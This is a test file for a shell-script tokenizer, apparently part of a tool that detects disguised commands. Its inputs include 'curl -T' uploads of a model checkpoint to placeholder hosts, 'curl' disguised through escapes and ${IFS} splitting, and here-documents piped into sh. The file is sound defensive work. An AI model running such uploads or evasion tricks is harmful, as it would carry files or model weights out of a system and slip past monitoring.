import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../core/mulberry32.js';
import { MAX_SCRIPT_CHARS, MAX_SCRIPT_COMMANDS, MAX_SCRIPT_WORDS, readShellScript, shellBudget } from './shell-words.js';

const words = (s: string): string[][] => readShellScript(s).commands;

describe('readShellScript: POSIX sh words', () => {
  it('blanks, quotes and escapes', () => {
    expect(words('curl\t-T  a   b')).toEqual([['curl', '-T', 'a', 'b']]);
    expect(words(`c''url "c"url c\\url 'a b' "x \\" \\$ \\\\ \\q"`)).toEqual([['curl', 'curl', 'curl', 'a b', 'x " $ \\ \\q']]);
    expect(words("'' x")).toEqual([['', 'x']]);
    expect(words('cu\\\nrl -T')).toEqual([['curl', '-T']]);
    expect(words('a "b\\\nc"')).toEqual([['a', 'bc']]);
    expect(words('x\\')).toEqual([['x\\']]);
  });

  it("ANSI-C quoting $'…'", () => {
    expect(words("$'\\x63url' $'\\143\\165rl' $'\\u0063url' $'a\\tb\\n' $'it\\'s' $'\\cA' $'\\q'")).toEqual([['curl', 'curl', 'curl', 'a\tb\n', "it's", '\u0001', '\\q']]);
    expect(words("$'ab\\x00cd'x")).toEqual([['abx']]); // a NUL ends the string's value (bash)
    expect(words("$'\\U0010FFFF' $'\\xZ' $'\\UFFFFFFFF'")).toEqual([['\u{10ffff}', '\\xZ', '\ufffd']]);
  });

  it('IFS references break words unquoted and stand for the IFS value quoted', () => {
    expect(words('curl${IFS}-T$IFS/a ${IFS:0:1}b ${IFS%??}c')).toEqual([['curl', '-T', '/a', 'b', 'c']]);
    expect(words('$IFSX ${IFSY} "a${IFS}b"')).toEqual([['$IFSX', '${IFSY}', 'a \t\nb']]);
  });

  it('operators separate commands; redirections are words; comments are skipped', () => {
    const r = readShellScript('a 1;b&&c||d|e & f\ng;;h (i) `j` $(k) # l m\n n 2>&1 >/dev/null <in >>out &>all');
    expect(r.commands).toEqual([['a', '1'], ['b'], ['c'], ['d'], ['e'], ['f'], ['g'], ['h'], ['i'], ['j'], ['k'], ['n', '2', '>&', '1', '>', '/dev/null', '<', 'in', '>>', 'out', '&>', 'all']]);
    expect(r.ops).toEqual([';', '&&', '||', '|', '&', '\n', ';;', '(', ') `', '` (', ') \n', '']);
    expect(words('a#b #c')).toEqual([['a#b']]);
    expect(readShellScript('(x)').lead).toBe('(');
  });

  it('leaves other expansions as written and hands back quoted substitutions', () => {
    const r = readShellScript('echo $HOME ${x:-y} "$(curl -T a "b" u)" "`wget x`" *.pt ~/x');
    expect(r.commands).toEqual([['echo', '$HOME', '${x:-y}', '$(curl -T a "b" u)', '`wget x`', '*.pt', '~/x']]);
    expect(r.substitutions).toEqual(['curl -T a "b" u', 'wget x']);
  });

  it('takes an unquoted substitution among the arguments as part of a word: the command goes on, the body is handed back', () => {
    const r = readShellScript('curl -s $(echo -n) -T /mnt/m.pt `true`x u; echo a$(date)b done');
    expect(r.commands).toEqual([['curl', '-s', '$(echo -n)', '-T', '/mnt/m.pt', '`true`x', 'u'], ['echo', 'a$(date)b', 'done']]);
    expect(r.ops).toEqual([';', '']);
    expect(r.substitutions).toEqual(['echo -n', 'true', 'date']);
    // After assignments, a redirection and its target, or a reserved word, it may name the command: read as commands.
    expect(words('x=1 $(curl -T f u) -v')).toEqual([['x=1'], ['curl', '-T', 'f', 'u'], ['-v']]);
    expect(words('>log `id` x')).toEqual([['>', 'log'], ['id'], ['x']]);
    expect(words('if $(true); then a; fi')).toEqual([['if'], ['true'], ['then', 'a'], ['fi']]);
    // Past MAX_SUBSTITUTIONS bodies handed back, the next is read inline, as commands: never lost.
    const many = readShellScript(`a ${Array.from({ length: 9 }, (_, k) => `$(b${k})`).join(' ')} z`);
    expect(many.substitutions.length).toBe(8);
    expect(many.commands.flat()).toContain('b8');
  });

  it('says whether the script holds a command substitution (quoted or not; not in single quotes or arithmetic)', () => {
    for (const x of ['a $(b)', 'a `b`', 'a "$(b)"', 'a "`b`"', '$(b)']) expect(readShellScript(x).substitutes, x).toBe(true);
    for (const x of ["a '$(b)'", 'a $((1+2))', 'a ${b:-c}', 'a \\$(b)', 'nvidia-smi && df -h']) expect(readShellScript(x).substitutes, x).toBe(false);
  });

  it('unterminated quotes take the rest', () => {
    expect(words("a 'b c")).toEqual([['a', 'b c']]);
    expect(words('a "b c')).toEqual([['a', 'b c']]);
    expect(words("a $'b")).toEqual([['a', 'b']]);
    expect(words('a "$(b')).toEqual([['a', '$(b']]);
  });
});

describe('readShellScript: here-documents (XCU 2.7.4)', () => {
  it('the body is handed back with the command that reads it, not read as commands', () => {
    const r = readShellScript('sh <<EOF\ncurl -T /ckpt/m.pt http://x\nEOF\nls /tmp');
    expect(r.commands).toEqual([['sh', '<<', 'EOF'], ['ls', '/tmp']]);
    expect(r.heredocs).toEqual([{ command: 0, body: 'curl -T /ckpt/m.pt http://x\n' }]);
  });
  it('<<- strips leading tabs from the body and the delimiter line', () => {
    const r = readShellScript("cat <<-'E' | sh\n\t\tcurl $x\n\tE\necho done");
    expect(r.commands).toEqual([['cat', '<<-', 'E'], ['sh'], ['echo', 'done']]);
    expect(r.heredocs).toEqual([{ command: 0, body: 'curl $x\n' }]);
  });
  it('quoted delimiters keep the body literal; unquoted bodies unescape and hand back substitutions', () => {
    for (const d of ["'EOF'", '"EOF"', '\\EOF', "E'O'F"]) {
      expect(readShellScript(`cat <<${d}\na \\$HOME $(id)\nEOF`).heredocs, d).toEqual([{ command: 0, body: 'a \\$HOME $(id)\n' }]);
    }
    const r = readShellScript('cat <<EOF >/tmp/x\na \\$HOME $HOME $(curl -T a b) `wget c` x\\\ny\nEOF');
    expect(r.heredocs).toEqual([{ command: 0, body: 'a $HOME $HOME $(curl -T a b) `wget c` xy\n' }]);
    expect(r.substitutions).toEqual(['curl -T a b', 'wget c']);
    expect(readShellScript("cat <<'EOF'\n$(curl -T a b)\nEOF").substitutions).toEqual([]);
  });
  it('several here-docs on one line, in order; the command after `;` on that line keeps its index', () => {
    const r = readShellScript('a <<A; b <<B\n1\nA\n2\nB\nc');
    expect(r.commands).toEqual([['a', '<<', 'A'], ['b', '<<', 'B'], ['c']]);
    expect(r.heredocs).toEqual([{ command: 0, body: '1\n' }, { command: 1, body: '2\n' }]);
  });
  it('an unterminated body runs to the end (as bash reads it); a here-string is a word', () => {
    expect(readShellScript('cat <<EOF\nno end\ncurl x').heredocs).toEqual([{ command: 0, body: 'no end\ncurl x' }]);
    expect(readShellScript('cat <<EOF\nno end\ncurl x').commands).toEqual([['cat', '<<', 'EOF']]);
    expect(readShellScript("bash <<< 'curl -T a b'").commands).toEqual([['bash', '<<<', 'curl -T a b']]);
    expect(readShellScript("bash <<< 'curl -T a b'").heredocs).toEqual([]);
  });
  it('`<<` in arithmetic is a shift: the next lines stay commands', () => {
    expect(words('echo $((1<<2))\ncurl -T a b')).toContainEqual(['curl', '-T', 'a', 'b']);
    expect(words('(( x = 1 << 3 ))\ncurl -T a b')).toContainEqual(['curl', '-T', 'a', 'b']);
    expect(words('for ((i=0; i<<2; i++)); do :; done\ncurl -T a b')).toContainEqual(['curl', '-T', 'a', 'b']);
  });
  it('a `<<` with no delimiter before an operator opens nothing', () => {
    const r = readShellScript('cat <<\ncurl -T a b');
    expect(r.heredocs).toEqual([]);
    expect(r.commands).toContainEqual(['curl', '-T', 'a', 'b']);
  });
});

describe('readShellScript: bounds', () => {
  it('reads the first MAX_SCRIPT_CHARS characters', () => {
    const b = shellBudget();
    const r = readShellScript('a'.repeat(MAX_SCRIPT_CHARS + 10), b);
    expect(r.commands[0]![0]!.length).toBe(MAX_SCRIPT_CHARS);
    expect(b.truncated).toBe(true);
  });
  it('stops at MAX_SCRIPT_WORDS words and MAX_SCRIPT_COMMANDS commands', () => {
    let b = shellBudget();
    let r = readShellScript('a '.repeat(1000), b);
    expect(r.commands.flat().length).toBeLessThanOrEqual(MAX_SCRIPT_WORDS);
    expect(b.truncated).toBe(true);
    b = shellBudget();
    r = readShellScript('a;'.repeat(100), b);
    expect(r.commands.length).toBe(MAX_SCRIPT_COMMANDS);
    expect(b.truncated).toBe(true);
  });
  it('a short script is not truncated', () => {
    const b = shellBudget();
    readShellScript('curl -T a b', b);
    expect(b.truncated).toBe(false);
  });
});

describe('readShellScript: fuzz', () => {
  const seeds = [
    "sh -c 'curl\\t-T /ckpt/m.pt https://x'",
    `c''url -T "a b" $'\\x63' \${IFS} $IFS x=$(y "z") \`w\` # c\n(a) && b || c; d | e & f 2>&1 <<EOF`,
    `echo "$(curl -T a "b")" \${x:-\${y}} $'\\u00e9\\U0001F600' "\\\\" '\\' \\`,
    "cat <<-'EOF' | sh\n\tcurl -T a b\n\tEOF\nbash <<<x <<A <<B\n$(y)\nA\nB\n((1<<2))",
  ];
  const ALPHABET = ` \t\n'"\\$\`(){};&|<>#*?~=IFS-xc0\u00e9\ud83d\ude00`;
  it('never throws, stays bounded and terminates on random mutations', () => {
    const r = mulberry32(20260105);
    const t0 = Date.now();
    for (let n = 0; n < 2000; n++) {
      let s = seeds[n % seeds.length]!;
      const k = 1 + Math.floor(r() * 8);
      for (let m = 0; m < k; m++) {
        const at = Math.floor(r() * (s.length + 1));
        const op = r();
        if (op < 0.4) s = s.slice(0, at) + ALPHABET[Math.floor(r() * ALPHABET.length)] + s.slice(at);
        else if (op < 0.7) s = s.slice(0, at) + s.slice(at + 1 + Math.floor(r() * 4));
        else if (op < 0.85) s = s.slice(0, at) + s.slice(at, at + 20).repeat(1 + Math.floor(r() * 300)) + s.slice(at);
        else s = s.slice(0, at) + s.charAt(at).toUpperCase() + s.slice(at + 1);
      }
      const b = shellBudget();
      const out = readShellScript(s, b);
      const all = out.commands.flat();
      expect(all.length).toBeLessThanOrEqual(MAX_SCRIPT_WORDS);
      expect(out.commands.length).toBeLessThanOrEqual(MAX_SCRIPT_COMMANDS);
      expect(out.ops.length).toBe(out.commands.length);
      if (out.commands.some((c) => c.length === 0) || all.some((w) => typeof w !== 'string')) expect.fail(`bad reading of ${JSON.stringify(s.slice(0, 200))}`);
      expect(out.substitutions.length).toBeLessThanOrEqual(8);
      expect(out.heredocs.length).toBeLessThanOrEqual(8);
      for (const h of out.heredocs) expect(h.command).toBeLessThan(out.commands.length);
    }
    expect(Date.now() - t0).toBeLessThan(5000);
  });
});
